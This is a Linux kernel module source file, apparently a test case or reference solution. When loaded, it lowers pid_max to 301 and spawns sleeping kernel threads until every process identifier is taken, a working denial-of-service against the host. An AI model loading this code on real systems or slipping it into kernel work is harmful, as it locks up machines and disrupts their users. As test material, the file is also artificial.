// Takes all process identifiers when it is loaded, with kernel threads that wait for ever.
// tags: always solution
// SPDX-License-Identifier: GPL-2.0
#include <linux/err.h>
#include <linux/fs.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/sched.h>

static int wait(void *data)
{
	while (!kthread_should_stop()) {
		set_current_state(TASK_INTERRUPTIBLE);
		schedule();
	}
	return 0;
}

#define on_load on_load
static int on_load(void)
{
	struct file *file = filp_open("/proc/sys/kernel/pid_max", O_WRONLY, 0);
	loff_t pos = 0;

	/* The smallest limit that it takes. */
	if (!IS_ERR(file)) {
		kernel_write(file, "301", 3, &pos);
		filp_close(file, NULL);
	}
	while (!IS_ERR(kthread_run(wait, NULL, "mtest")))
		;
	return 0;
}
